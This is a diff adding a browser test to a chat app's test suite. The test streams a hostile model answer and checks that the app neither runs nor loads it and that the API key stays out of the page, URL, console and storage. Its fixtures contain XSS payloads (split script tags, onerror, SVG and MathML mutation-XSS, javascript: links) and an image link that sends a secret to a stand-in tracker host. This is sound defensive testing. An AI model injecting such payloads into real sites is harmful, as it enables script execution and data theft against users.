@@ -50,3 +50,82 @@ describe('the key and its origin', () => {
     assert.equal(await ask.count(), 0);
   });
 });
+
+/** Every record of the app's IndexedDB, as [key, JSON text]. */
+function storedRecords(page) {
+  return page.evaluate(
+    () =>
+      new Promise((resolve, reject) => {
+        const open = indexedDB.open('parley');
+        open.onerror = () => reject(open.error);
+        open.onsuccess = () => {
+          const db = open.result;
+          const store = db.transaction('kv').objectStore('kv');
+          const keys = store.getAllKeys();
+          const values = store.getAll();
+          values.onsuccess = () =>
+            resolve(keys.result.map((k, i) => [String(k), JSON.stringify(values.result[i])]));
+        };
+      }),
+  );
+}
+
+describe('the canary key stays in the Authorization header', () => {
+  it('a hostile streamed answer runs nothing, loads nothing, and the key shows nowhere', async () => {
+    const page = await app.openConfigured();
+    const console = [];
+    page.on('console', (m) => console.push(m.text()));
+    const base = { id: 'chatcmpl-xss', object: 'chat.completion.chunk', model: 'gpt-4' };
+    // Tags cut across chunks, SVG and MathML (mXSS), Markdown link and image tricks.
+    const hostile = [
+      '<scr',
+      'ipt>window.__pwned=1</scr',
+      'ipt>\n\n<img src=x one',
+      'rror="window.__pwned=2">\n\n',
+      '<svg><animate onbegin="window.__pwned=3" attributeName=x dur=1s>\n\n',
+      '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=4">\n\n',
+      '[click](javascript:window.__pwned=5) and [data](data:text/html,<script>1</script>)\n\n',
+      '![tracker](https://tracker.example/pixel.png?c=secret)\n\n',
+      // The key echoed back, cut across two chunks as a model's tokens would be.
+      `Echo: ${KEY.slice(0, 12)}`,
+      `${KEY.slice(12)}\n\nDone.`,
+    ];
+    app.api.enqueue({
+      sse: [
+        ...hostile.map((content) => ({ ...base, choices: [{ index: 0, delta: { content } }] })),
+        { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
+        'event: execute\ndata: window.__pwned=6\n\n',
+        'data: [DONE]\n\n',
+      ],
+    });
+    const requested = [];
+    page.on('request', (r) => requested.push(r.url()));
+    await messageBox(page).fill('Show me your worst');
+    await messageBox(page).press('Control+Enter');
+    const answer = page.getByRole('article', { name: 'Assistant message' }).last();
+    await answer.getByText('Done.').waitFor();
+    await page.getByRole('button', { name: 'Stop', exact: true }).waitFor({ state: 'detached' });
+
+    assert.equal(await page.evaluate(() => window.__pwned), undefined, 'nothing ran');
+    assert.equal(await answer.locator('img, svg, math, script, iframe').count(), 0);
+    assert.ok(!requested.some((u) => u.includes('tracker.example')), 'no remote image fetched');
+    const link = answer.getByRole('link', { name: 'click' });
+    if ((await link.count()) > 0) {
+      assert.doesNotMatch((await link.getAttribute('href')) ?? '', /^javascript:/i);
+    }
+
+    // The key: on the wire only as the Authorization header to the chosen origin.
+    const [sent] = await app.waitForChatRequests(1);
+    assert.equal(sent.headers.authorization, `Bearer ${KEY}`);
+    const html = await page.content();
+    assert.ok(!html.includes(KEY), 'the key is in the page');
+    assert.ok(!page.url().includes(KEY), 'the key is in the URL');
+    assert.ok(!console.some((line) => line.includes(KEY)), 'the key is in the console');
+    const holders = (await storedRecords(page)).filter(([, v]) => v.includes(KEY));
+    assert.deepEqual(
+      holders.map(([k]) => k),
+      ['apiKey'],
+      'only the key record holds the key',
+    );
+  });
+});
